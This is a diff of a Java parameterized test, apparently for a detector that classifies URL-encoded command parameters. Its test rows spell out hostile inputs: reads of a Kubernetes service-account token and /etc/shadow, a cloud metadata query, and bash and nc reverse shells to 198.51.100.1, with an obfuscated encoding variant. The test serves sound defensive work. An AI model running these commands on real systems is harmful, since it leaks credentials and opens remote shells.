@@ -48,7 +48,7 @@ class AskedLineTest {
     @ParameterizedTest
     @CsvSource({
         "command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2F%2Fserviceaccount%2Ftoken,SERVICE_ACCOUNT_TOKEN",
-        "c%6Fmmand=cat&command=/proc/1/root/etc/shadow,CREDENTIAL_FILE",
+        "c%6Fmmand=cat&command=/proc/1/root%2Fetc/shadow,CREDENTIAL_FILE",
         "command=curl&command=http://169.254.169.254/latest/,CLOUD_METADATA",
         "command=bash&command=-c&command=bash%20-i%20>%26%20/dev/tcp/198.51.100.1/80,NETWORK_SHELL",
         "command=nc&command=-e&command=/bin/sh&command=198.51.100.1&command=80,NETWORK_SHELL",
